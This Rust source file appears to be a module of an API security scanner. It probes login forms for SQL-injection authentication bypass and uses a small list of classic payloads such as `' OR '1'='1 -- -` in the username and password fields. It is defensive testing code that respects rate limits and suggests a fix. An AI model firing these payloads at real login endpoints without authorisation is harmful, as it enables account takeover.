//! A log in without the password.
//!
//! The oldest of all: the name closes its string, and the rest of the statement, which compares the password, is a comment
//! or always true. A session begins that nobody has the password for. Few are tried: log ins are counted.

use super::mend::MEND_AT_GATE;
use crate::answer::Reply;
use crate::attack::{Attack, Hole, Tried};
use crate::door::{GuideDoor, ShutBy};
use crate::prober::{Prober, Stop};
use crate::request::Draft;
use crate::session::{LogInForm, session_of};
use crate::who::Who;
use report::Level;

pub(super) const ATTACK: Attack = Attack {
    name: "sql-log-in",
    door: GuideDoor::SqlInjection,
    shut_by: ShutBy::Code,
    thought: "If my name ends the statement, am I logged in without a password?",
    level: Level::Critical,
    references: &["CWE-89", "CWE-287", "API2:2023", "API8:2023"],
    mend_in_code: "Bind the name as a parameter, read one account, and compare the password's hash in the code.",
    mend_at_gate: MEND_AT_GATE,
    run: |p, tried| Box::pin(run(p, tried)),
};

/// How many forms are tried.
const MAX_FORMS: usize = 2;
/// A password that nobody has.
const WRONG: &str = "Quiet-7q-Harbour-zz";
/// A name that nobody has.
const NOBODY: &str = "dwnobody7q";

/// Names and passwords: `NAME` is the victim's name.
const PAIRS: [(&str, &str); 5] = [
    ("NAME' -- -", WRONG),
    ("dwnobody7q' OR '1'='1' -- -", WRONG),
    ("dwnobody7q' OR '1'='1", "zq' OR '1'='1"),
    ("dwnobody7q') OR ('1'='1' -- -", WRONG),
    ("NAME", "zq' OR '1'='1"),
];

async fn run(p: &Prober<'_>, tried: &mut Tried) -> Result<(), Stop> {
    let names = p.people().into_iter().filter_map(|who| p.person(who)?.account.credentials);
    let name = names.map(|(name, _)| name).next().unwrap_or_else(|| "admin".into());
    let forms: Vec<LogInForm> = LogInForm::all(p.surface).into_iter().take(MAX_FORMS).collect();
    if forms.is_empty() {
        tried.not_tried("no operation of the document logs in");
    }
    for form in forms {
        let result = try_form(p, &form, &name, tried).await;
        tried.take(result)?;
    }
    Ok(())
}

async fn try_form(p: &Prober<'_>, form: &LogInForm, name: &str, tried: &mut Tried) -> Result<(), Stop> {
    let endpoint = p.surface.endpoint(form.endpoint);
    let draft = |name: &str, password: &str| form.draft(endpoint, name, password);
    let wrong = p.ask(&draft(NOBODY, WRONG), Who::Nobody).await?;
    if begins(&wrong) {
        tried.unknown(format!("{}: a wrong password begins a session, too", endpoint.name()));
        return Ok(());
    }
    if wrong.status() == 429 {
        tried.not_tried(format!("{}: log ins are limited now", endpoint.name()));
        return Ok(());
    }
    for (written, password) in PAIRS {
        let attack: Draft = draft(&written.replace("NAME", name), password);
        let reply = p.ask(&attack, Who::Nobody).await?;
        if reply.status() == 429 {
            tried.not_tried(format!("{}: log ins are limited now", endpoint.name()));
            return Ok(());
        }
        if !begins(&reply) {
            tried.shut(&reply.seen);
            continue;
        }
        // Again, and still not with what is only wrong.
        if begins(&p.ask(&attack, Who::Nobody).await?)
            && !begins(&p.ask(&draft(NOBODY, WRONG), Who::Nobody).await?)
        {
            let message = format!("the name `{written}` begins a session without the password");
            tried.open(Hole::shown(endpoint.name(), &form.name, message, &wrong, &reply));
            return Ok(());
        }
    }
    Ok(())
}

/// Whether an answer begins a session: a token in its body, or a cookie with a success.
fn begins(reply: &Reply) -> bool {
    reply.is_served && session_of(&reply.answer).is_some()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nobody_is_called_as_the_attacks_say() {
        assert!(PAIRS.iter().all(|(name, _)| name.starts_with("NAME") || name.starts_with(NOBODY)));
    }
}
